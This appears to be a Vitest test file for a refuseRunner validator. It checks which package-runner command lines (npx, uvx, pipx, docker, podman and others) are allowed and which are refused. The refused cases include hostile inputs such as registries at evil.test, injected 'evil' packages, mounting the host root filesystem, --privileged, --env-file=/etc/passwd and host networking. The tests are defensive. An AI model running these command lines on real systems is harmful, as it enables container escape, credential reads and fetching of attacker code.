import { expect, test } from "vitest";
import { refuseRunner } from "./runner-options.ts";

test.each([
  ["npx -y weather@1.0.0 -c --package=x"],
  ["npx -y --quiet weather@1.0.0"],
  ["bunx -y weather"],
  ["uvx weather@1.0.0 --from here"],
  ["pipx run weather"],
  ["docker run -i --rm -e KEY -e A={a} --pull=always acme/weather:1.0.0 --privileged"],
  ["podman run -it --memory 100m acme/weather"],
  ["dnx --yes Weather@1.0.0 --level 3"],
])("%s runs the package that it names", (line) => {
  const [command = "", ...args] = line.split(" ");
  expect(refuseRunner(command, args)).toBeUndefined();
});

test.each([
  ["npx -y -c id weather", '"-c"'],
  ["npx -y --call=id weather", '"--call=id"'],
  ["npx -y --package=evil weather", '"--package=evil"'],
  ["npx -p evil weather", '"-p"'],
  ["npx --registry http://evil.test weather", '"--registry"'],
  ["npx --node-options=--require=/tmp/x.js weather", "--node-options"],
  ["bunx --package evil weather", '"--package"'],
  ["uvx --from evil weather", '"--from"'],
  ["uvx --index-url http://evil.test weather", '"--index-url"'],
  ["uvx --python=/tmp/evil weather", "--python"],
  ["pipx install weather", 'without "run"'],
  ["pipx run --spec evil weather", '"--spec"'],
  ["docker exec -it other sh", 'without "run"'],
  ["docker --host tcp://evil.test run weather", 'without "run"'],
  ["docker run -v /:/host weather", '"-v"'],
  ["docker run -v/:/host weather", '"-v/:/host"'],
  ["docker run --volume=/:/host weather", '"--volume=/:/host"'],
  ["docker run --mount type=bind,src=/,dst=/host weather", '"--mount"'],
  ["docker run --privileged weather", '"--privileged"'],
  ["docker run -itv /:/host weather", '"-itv"'],
  ["docker run --env-file=/etc/passwd weather", "--env-file"],
  ["docker run --network host weather", '"--network"'],
  ["podman run --pid=host weather", '"--pid=host"'],
  ["dnx --yes Weather --add-source http://evil.test", '"--add-source"'],
  ["npx -y {cache} weather", "depends on a value that you enter"],
  ["npx -y", "does not name a package"],
  ["bash -c id", "not a package runner"],
])("%s is refused", (line, reason) => {
  const [command = "", ...args] = line.split(" ");
  expect(refuseRunner(command, args)).toContain(reason);
});
